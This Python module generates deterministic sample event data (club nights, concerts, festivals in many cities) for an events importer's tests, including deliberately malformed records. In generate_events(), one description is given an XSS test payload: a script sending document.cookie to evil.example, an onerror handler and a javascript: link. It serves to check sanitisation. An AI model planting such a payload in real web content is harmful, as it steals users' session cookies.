"""Generate the shipped sample events: ``python -m infra.local.make_samples > infra/local/sample_events.jsonl``.

Each line is one *raw* event as an importer would hand it over, before
``EventData`` cleans it: markup in descriptions, times such as ``"8pm"``,
dates such as ``"March 3, 2026"``, placeholders such as ``"N/A"``, duplicated
lineup and genre entries, and optional fields left out.  The output is
deterministic (seeded ``random.Random(2026)``), so a test can check that the
committed file is exactly what this module generates now.

Exactly ``INVALID_COUNT`` lines are deliberately invalid; they carry a
``"_demo_note": "invalid: <why>"`` key (``EventData`` ignores unknown keys).
"""

from __future__ import annotations

import datetime as dt
import json
import random
import sys
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = [
    "INVALID_COUNT",
    "INVALID_NOTE_PREFIX",
    "SAMPLES_PATH",
    "generate_events",
    "is_invalid",
    "load_samples",
    "render",
]

SAMPLES_PATH = Path(__file__).with_name("sample_events.jsonl")
SEED = 2026
VALID_COUNT = 125
INVALID_COUNT = 5
INVALID_NOTE_PREFIX = "invalid:"
INJECTION_INDEX = 7
BASE_URL = "https://demo.events.example"


@dataclass(frozen=True)
class City:
    """A place events happen, with how its sources tend to write dates, times and prices."""

    name: str
    state: str | None
    countries: tuple[str, ...]  # the spellings importers use for the country
    code: str
    lat: float
    lng: float
    timezone: str
    date_styles: tuple[str, ...]  # strftime formats that EventData understands
    twelve_hour: bool
    currency: str
    venues: tuple[tuple[str, str], ...]  # (venue, street address)


# Tabular data reads best one city per block; the formatter would put every value on its own line.
# fmt: off
CITIES: tuple[City, ...] = (
    City("Berlin", None, ("Germany", "Deutschland", "DE"), "de", 52.52, 13.405, "Europe/Berlin",
         ("%d.%m.%Y", "%Y-%m-%d"), False, "€{}",
         (("Kesselhaus", "Revaler Str. 99"), ("Tresorwerk", "Köpenicker Str 7"), ("Kanalhalle", "Am Flutgraben 2"))),
    City("Hamburg", None, ("Germany",), "de", 53.5511, 9.9937, "Europe/Berlin",
         ("%d.%m.%Y",), False, "€{}",
         (("Hafenklang Süd", "Große Elbstraße 84"), ("Docks 21", "Spielbudenplatz 21"))),
    City("London", None, ("UK", "United Kingdom"), "gb", 51.5072, -0.1276, "Europe/London",
         ("%d %B %Y", "%d %b %Y"), False, "£{}",
         (("Foundry Arches", "Great Eastern St"), ("Southbank Hall", "Belvedere Rd"), ("Peckham Yard", "Rye Ln 133"))),
    City("Manchester", None, ("United Kingdom",), "gb", 53.4808, -2.2426, "Europe/London",
         ("%d %B %Y",), False, "£{}",
         (("Mill Street Warehouse", "Mill St"), ("Ancoats Social", "Blossom St 12"))),
    City("New York", "NY", ("USA", "United States"), "us", 40.7128, -74.006, "America/New_York",
         ("%B %d, %Y", "%a, %b %d, %Y", "%A, %B %d, %Y"), True, "${}",
         (("Bowery Lantern", "329 Bowery"), ("Greenpoint Terminal", "2 Noble St"), ("Hudson Loft", "511 W 25th St"))),
    City("Miami", "FL", ("USA",), "us", 25.7617, -80.1918, "America/New_York",
         ("%B %d, %Y",), True, "${}",
         (("Wynwood Courtyard", "2520 NW 2nd Ave"), ("Club Marea", "1235 Washington Ave"))),
    City("Los Angeles", "CA", ("United States", "USA"), "us", 34.0522, -118.2437, "America/Los_Angeles",
         ("%B %d, %Y", "%a, %b %d, %Y"), True, "${}",
         (("Arts District Depot", "1320 E 7th St"), ("Sunset Palms Theatre", "8430 Sunset Blvd"))),
    City("San Francisco", "CA", ("USA",), "us", 37.7749, -122.4194, "America/Los_Angeles",
         ("%B %d, %Y",), True, "${}",
         (("Mission Boiler Room", "3158 Mission St"), ("Pier 70 Sheds", "420 22nd St"))),
    City("Tokyo", None, ("Japan", "JP"), "jp", 35.6762, 139.6503, "Asia/Tokyo",
         ("%Y/%m/%d", "%Y-%m-%d"), False, "¥{:,}",
         (("Shibuya Undercroft", "2-21-1 Shibuya"), ("Koenji Wire", "3-22-8 Koenji-kita"))),
    City("Osaka", None, ("Japan",), "jp", 34.6937, 135.5023, "Asia/Tokyo",
         ("%Y/%m/%d",), False, "¥{:,}",
         (("Namba Circuit", "1-4-20 Nanba"),)),
    City("Sydney", "NSW", ("Australia",), "au", -33.8688, 151.2093, "Australia/Sydney",
         ("%d %B %Y", "%Y-%m-%d"), True, "A${}",
         (("Marrickville Bowl", "Sydenham Rd 1"), ("Harbour Shed", "Hickson Rd 7"))),
    City("Melbourne", "VIC", ("Australia",), "au", -37.8136, 144.9631, "Australia/Melbourne",
         ("%d %B %Y",), True, "A${}",
         (("Collingwood Yards", "35 Johnston St"), ("Lygon Cellar", "380 Lygon St"))),
    City("São Paulo", "SP", ("Brazil", "Brasil"), "br", -23.5505, -46.6333, "America/Sao_Paulo",
         ("%Y-%m-%d",), False, "R$ {}",
         (("Galpão Barra Funda", "Rua Tagipuru 795"), ("Casa Augusta", "Rua Augusta 2203"))),
    City("Rio de Janeiro", "RJ", ("Brazil",), "br", -22.9068, -43.1729, "America/Sao_Paulo",
         ("%Y-%m-%d",), False, "R$ {}",
         (("Armazém da Lapa", "Rua do Riachuelo 19"),)),
    City("Cape Town", "Western Cape", ("South Africa",), "za", -33.9249, 18.4241, "Africa/Johannesburg",
         ("%Y-%m-%d", "%d %B %Y"), False, "R{}",
         (("Woodstock Foundry", "Albert Rd 160"), ("Bree Street Vault", "Bree St 94"))),
    City("Johannesburg", "Gauteng", ("South Africa", "ZA"), "za", -26.2041, 28.0473, "Africa/Johannesburg",
         ("%Y-%m-%d",), False, "R{}",
         (("Maboneng Rooftop", "Fox St 286"),)),
    City("Mumbai", "Maharashtra", ("India",), "in", 19.076, 72.8777, "Asia/Kolkata",
         ("%d %b %Y", "%Y-%m-%d"), True, "₹{:,}",
         (("Lower Parel Mills", "Senapati Bapat Marg"), ("Bandra Terrace", "Hill Rd 24"))),
    City("Bengaluru", "Karnataka", ("India",), "in", 12.9716, 77.5946, "Asia/Kolkata",
         ("%d %b %Y",), True, "₹{:,}",
         (("Indiranagar Hall", "100 Feet Rd"),)),
    City("Paris", None, ("France",), "fr", 48.8566, 2.3522, "Europe/Paris",
         ("%Y-%m-%d", "%d.%m.%Y"), False, "{} €",
         (("La Rotonde Basse", "Quai de la Loire 6"), ("Pantin Docks", "Rue Cartier-Bresson 8"))),
    City("Marseille", None, ("France",), "fr", 43.2965, 5.3698, "Europe/Paris",
         ("%Y-%m-%d",), False, "{} €",
         (("Friche du Port", "Rue Jobin 41"),)),
    City("Amsterdam", None, ("Netherlands", "Nederland"), "nl", 52.3676, 4.9041, "Europe/Amsterdam",
         ("%Y-%m-%d", "%d %B %Y"), False, "€{}",
         (("Noord Scheepshal", "NDSM-Plein 28"), ("Kanaal Kelder", "Spuistraat 2"))),
    City("Rotterdam", None, ("Netherlands",), "nl", 51.9244, 4.4777, "Europe/Amsterdam",
         ("%Y-%m-%d",), False, "€{}",
         (("Maashaven Loods", "Maashaven ZZ 1"),)),
    City("Mexico City", "CDMX", ("Mexico", "México"), "mx", 19.4326, -99.1332, "America/Mexico_City",
         ("%Y-%m-%d",), False, "MX${}",
         (("Foro Roma Norte", "Calle Colima 143"), ("Bodega Doctores", "Dr. Lucio 102"))),
    City("Guadalajara", "Jalisco", ("Mexico",), "mx", 20.6597, -103.3496, "America/Mexico_City",
         ("%Y-%m-%d",), False, "MX${}",
         (("Patio Chapultepec", "Av. Chapultepec 15"),)),
    City("Toronto", "ON", ("Canada",), "ca", 43.6532, -79.3832, "America/Toronto",
         ("%B %d, %Y", "%Y-%m-%d"), True, "CA${}",
         (("Queen West Annex", "1087 Queen St W"), ("Portlands Hall", "11 Polson St"))),
    City("Montréal", "QC", ("Canada",), "ca", 45.5019, -73.5674, "America/Toronto",
         ("%Y-%m-%d",), False, "{} $",
         (("Entrepôt Mile-End", "5445 Av. de Gaspé"),)),
    City("Vancouver", "BC", ("Canada",), "ca", 49.2827, -123.1207, "America/Vancouver",
         ("%B %d, %Y",), True, "CA${}",
         (("Gastown Cellar", "6 Powell St"),)),
)
# fmt: on

ARTISTS = (
    "Mira Kessler",
    "DJ Haruto",
    "Nocturne Collective",
    "Lena Voss",
    "Kwame Osei",
    "Sol Ortega",
    "Ayumi Tanaka",
    "The Lanternfish",
    "Priya Raman",
    "Juno Blackwell",
    "Tomás Ferreira",
    "Ngozi Adeyemi",
    "Felix Marchetti",
    "Otto & The Tides",
    "Sienna Hart",
    "Marlon Dube",
    "Yuki Mori",
    "Celeste Arden",
    "Bongani Khumalo",
    "Aditi Rao",
    "Ravel Dusk",
    "Noor Haddad",
    "Paloma Ríos",
    "Hugo Lambert",
    "Ines Duarte",
    "Kenji Watanabe",
    "Tallulah Reed",
    "Sipho Mthembu",
    "Clara Jansen",
    "Dario Vance",
    "Ophelia Moon",
    "Rafael Cruz",
    "Elif Kaya",
    "Jasper Quinn",
    "Maya Lindqvist",
    "Arjun Mehta",
    "Lucía Navarro",
    "Gideon Park",
    "Nia Campbell",
    "Finn O'Rourke",
)
CLUB_SERIES = (
    "Nachtschicht",
    "Warehouse Sessions",
    "Deep Sunday",
    "Basement Theory",
    "Low Frequency",
    "Afterglow",
    "Club Eclipse",
    "Midnight Mass",
    "Sublevel",
    "Dawn Patrol",
)
FESTIVALS = (
    "Lichtwellen",
    "Harbour Lights",
    "Solstice Fields",
    "Ocean Drive Sound",
    "Terra Nova",
    "Bloom Valley",
    "Riverbank",
)
TOURS = ("Northern Lights", "Glass Houses", "Second Sun", "Paper Moons", "Wide Awake", "Long Way Home")
CLUB_GENRES = (
    ("Techno", "Minimal"),
    ("House", "Deep House"),
    ("Drum & Bass", "Jungle"),
    ("Amapiano", "House"),
    ("Electro", "Breaks"),
    ("Disco", "Nu-Disco"),
)
LIVE_GENRES = (
    ("Indie Rock",),
    ("Jazz", "Soul"),
    ("Hip-Hop", "R&B"),
    ("Pop",),
    ("Folk", "Singer-Songwriter"),
    ("Baile Funk",),
    ("Afrobeats",),
    ("Post-Punk", "Indie"),
)
PROMOTERS = ("Nightshift Agency", "Good Company Live", "Sonar Bookings", "Open Air Collective", "Lantern Events")


def _when(rng: random.Random) -> dt.date:
    """A date between 2026-01-10 and 2027-12-10."""
    return dt.date(2026, 1, 10) + dt.timedelta(days=rng.randrange(0, 699))


def _clock(hour: int, minute: int, city: City, rng: random.Random) -> str:
    """A time as this city's sources would write it: "22:30", "10:30pm", "8 PM", "21h30"."""
    if city.twelve_hour and rng.random() < 0.8:
        suffix = rng.choice(("pm", "PM", " pm", "p.m.")) if hour >= 12 else rng.choice(("am", "AM", " am"))
        twelve = hour % 12 or 12
        return f"{twelve}{suffix}" if minute == 0 else f"{twelve}:{minute:02d}{suffix}"
    if city.code == "fr" and rng.random() < 0.6:
        return f"{hour}h{minute:02d}"
    return f"{hour:02d}:{minute:02d}"


def _date_text(day: dt.date, style: str) -> str:
    """``day`` in ``style``; with a month name the day is unpadded ("March 3, 2026"), as people write it."""
    if "%B" in style or "%b" in style:
        style = style.replace("%d", str(day.day))
    return day.strftime(style)


def _slug(text: str) -> str:
    return "-".join("".join(ch if ch.isalnum() else " " for ch in text.lower()).split())


def _with_duplicates(items: Sequence[str], rng: random.Random) -> list[str]:
    """``items``, sometimes with one entry repeated in another spelling, as scrapers produce."""
    result = list(items)
    if result and rng.random() < 0.25:
        repeat = rng.choice(result)
        result.append(rng.choice((repeat, repeat.upper(), repeat.lower(), f" {repeat} ")))
    return result


def _description(kind: str, title: str, venue: str, lineup: Sequence[str], rng: random.Random) -> str:
    names = ", ".join(lineup[:3]) or "special guests"
    text = {
        "club": f"{title} returns to {venue} for a long night on a proper sound system. Expect {names} "
        "to take it from warm-up to sunrise. No photos on the dance floor.",
        "concert": f"{names} live at {venue}. Doors open an hour before the show; support to be announced.",
        "festival": f"Three stages, {len(lineup)} acts and food from local vendors. Headliners: {names}. "
        "Camping and day tickets available.",
        "jazz": f"An intimate evening of improvised music with {names}. Seated show, two sets.",
    }[kind]
    style = rng.random()
    if style < 0.15:
        # Scraped straight from a venue page: tags, entities and stray line breaks.
        return (
            f"<p><strong>{title}</strong> &amp; friends</p>\n<p>{text}</p>"
            "<br/><em>Tickets at the door &ndash; cash only.</em>"
        )
    if style < 0.25:
        return f"{text}\n\n\nLine-up:<br>{'<br>'.join(lineup)}"
    return text


def _event(index: int, city: City, rng: random.Random) -> dict[str, Any]:
    """One raw event in ``city``; ``index`` makes its source URL unique."""
    kind = rng.choices(("club", "concert", "festival", "jazz"), weights=(45, 30, 12, 13))[0]
    venue, street = rng.choice(city.venues)
    day = _when(rng)
    acts = rng.sample(ARTISTS, {"club": 3, "concert": 2, "festival": 8, "jazz": 1}[kind])
    headliner = acts[0]
    event: dict[str, Any] = {}
    end_date: dt.date | None = None
    times: dict[str, str] | None = None
    if kind == "club":
        title = f"{rng.choice(CLUB_SERIES)} w/ {headliner}"
        genres = list(rng.choice(CLUB_GENRES))
        if rng.random() < 0.85:
            # Overnight: starts late evening, ends early next morning; EventData derives end_date.
            start = rng.choice(((22, 0), (22, 30), (23, 0), (23, 30)))
            end = rng.choice(((4, 0), (4, 30), (5, 0), (5, 30), (6, 0)))
            times = {"start": _clock(*start, city, rng), "end": _clock(*end, city, rng)}
    elif kind == "festival":
        title = f"{rng.choice(FESTIVALS)} Festival {day.year}"
        genres = [*rng.choice(CLUB_GENRES), *rng.choice(LIVE_GENRES)]
        end_date = day + dt.timedelta(days=rng.choice((1, 2, 2, 3)))
        times = {"start": _clock(rng.choice((11, 12, 14)), 0, city, rng), "end": _clock(23, 0, city, rng)}
    elif kind == "concert":
        tour = f"{headliner} — {rng.choice(TOURS)} Tour"
        title = rng.choice((tour, f"{headliner} live", f"{headliner} + {acts[1]}"))
        genres = list(rng.choice(LIVE_GENRES))
        if rng.random() < 0.8:
            times = {"start": _clock(rng.choice((19, 20, 21)), rng.choice((0, 0, 30)), city, rng)}
            if rng.random() < 0.5:
                times["end"] = _clock(rng.choice((22, 23)), rng.choice((0, 30)), city, rng)
    else:
        title = f"{headliner} Quartet"
        genres = ["Jazz", rng.choice(("Bebop", "Modal Jazz", "Latin Jazz", "jazz"))]
        if rng.random() < 0.7:
            times = {"start": _clock(rng.choice((19, 20)), 30, city, rng), "end": _clock(22, 30, city, rng)}

    if kind == "club" and rng.random() < 0.15:
        title = title.replace(" w/ ", " &amp; ")  # an entity left in by a scraper
    event["title"] = title
    event["venue"] = venue
    event["date"] = _date_text(day, rng.choice(city.date_styles))
    if end_date is not None:
        event["end_date"] = _date_text(end_date, city.date_styles[0])
    if times is not None or rng.random() < 0.2:
        times = times or {}
        if rng.random() < 0.35:
            times["timezone"] = city.timezone
        if times:
            event["time"] = times
    if rng.random() < 0.7:
        event["promoters"] = _with_duplicates(rng.sample(PROMOTERS, rng.choice((1, 1, 2))), rng)
    if rng.random() < 0.9:
        event["lineup"] = _with_duplicates(acts, rng)
    event["long_description"] = _description(kind, title, venue, acts, rng)
    if rng.random() < 0.5:
        event["short_description"] = f"{headliner} at {venue}, {city.name}."
    event["genres"] = _with_duplicates(genres, rng)
    location: dict[str, Any] = {"address": street, "city": city.name, "country": rng.choice(city.countries)}
    if city.state:
        location["state"] = city.state
    if rng.random() < 0.85:
        location["coordinates"] = {
            "lat": round(city.lat + rng.uniform(-0.04, 0.04), 5),
            "lng": round(city.lng + rng.uniform(-0.04, 0.04), 5),
        }
    event["location"] = location
    slug = _slug(title.replace("&amp;", "and"))
    picture = rng.random()
    if picture < 0.6:
        event["images"] = {
            "full": f"{BASE_URL}/img/{slug}-{index:03d}.jpg",
            "thumbnail": f"{BASE_URL}/img/{slug}-{index:03d}-thumb.jpg",
        }
    elif picture < 0.75:
        event["images"] = {"full": f"{BASE_URL}/img/{slug}-{index:03d}.jpg"}
    if kind == "club":
        ages: tuple[object, ...] = ("21+", "21 and over", 21) if city.code == "us" else ("18+", 18, "18 and over")
        event["minimum_age"] = rng.choice(ages)
    elif rng.random() < 0.5:
        event["minimum_age"] = rng.choice(("All ages", 16, "16+", None))
    if rng.random() < 0.85:
        price = rng.choice((15, 20, 25, 30, 45, 60)) * (150 if city.currency.startswith("¥") else 1)
        price = price * 80 if city.currency.startswith("₹") else price
        event["cost"] = "Free" if rng.random() < 0.08 else city.currency.format(price)
    ticket = rng.random()
    if ticket < 0.65:
        event["ticket_url"] = f"https://tickets.demo.events.example/e/{index:03d}"
    elif ticket < 0.8:
        event["ticket_url"] = rng.choice(("N/A", "n/a", "TBA", ""))
    event["source_url"] = f"{BASE_URL}/{city.code}/{_slug(city.name)}/{slug}-{index:03d}"
    return event


# One deliberate, distinct mistake each: (field path, bad value or None to delete the title, why).
_INVALID: tuple[tuple[str, object, str], ...] = (
    ("title", "", "empty title"),
    ("date", "not a date", "date is not a date"),
    ("time.start", "25:99", "time.start 25:99 is not a time of day"),
    ("minimum_age", "old", "minimum_age 'old' is not a number"),
    ("source_url", "javascript:alert(1)", "source_url is a javascript: URL, not http(s)"),
)


def _spoil(event: dict[str, Any], path: str, value: object, why: str) -> dict[str, Any]:
    spoiled = {"_demo_note": f"{INVALID_NOTE_PREFIX} {why}", **event}
    if path == "time.start":
        spoiled["time"] = {**spoiled.get("time", {}), "start": value}
    else:
        spoiled[path] = value
    return spoiled


def generate_events() -> list[dict[str, Any]]:
    """All sample events, valid and invalid interleaved, in file order."""
    rng = random.Random(SEED)  # noqa: S311 - sample data, not security
    # Walking the cities in turn (not at random) guarantees every country a share.
    events = [_event(index, CITIES[index % len(CITIES)], rng) for index in range(VALID_COUNT + INVALID_COUNT)]
    step = len(events) // INVALID_COUNT
    for number, (path, value, why) in enumerate(_INVALID):
        position = number * step + step // 2
        events[position] = _spoil(events[position], path, value, why)
    # A valid event whose text tries to inject markup: it must reach destinations as inert text.
    target = events[INJECTION_INDEX]
    target["long_description"] = (
        f"{target['long_description']} <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
        '<img src="x" onerror="alert(\'pwned\')"><a href="javascript:alert(1)">Get tickets</a>'
    )
    return events


def render() -> str:
    """The JSON-lines text of ``generate_events()``: one event per line, UTF-8, trailing newline."""
    return "".join(json.dumps(event, ensure_ascii=False) + "\n" for event in generate_events())


def is_invalid(event: Mapping[str, Any]) -> bool:
    """Whether a sample is one of the deliberately invalid ones."""
    note = event.get("_demo_note")
    return isinstance(note, str) and note.startswith(INVALID_NOTE_PREFIX)


def load_samples(path: Path = SAMPLES_PATH) -> list[dict[str, Any]]:
    """Read the shipped samples (or another JSON-lines file of raw events)."""
    with path.open(encoding="utf-8") as lines:
        return [json.loads(line) for line in lines if line.strip()]


def main() -> None:
    """Write the samples to standard output as UTF-8, whatever the locale says."""
    sys.stdout.buffer.write(render().encode("utf-8"))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
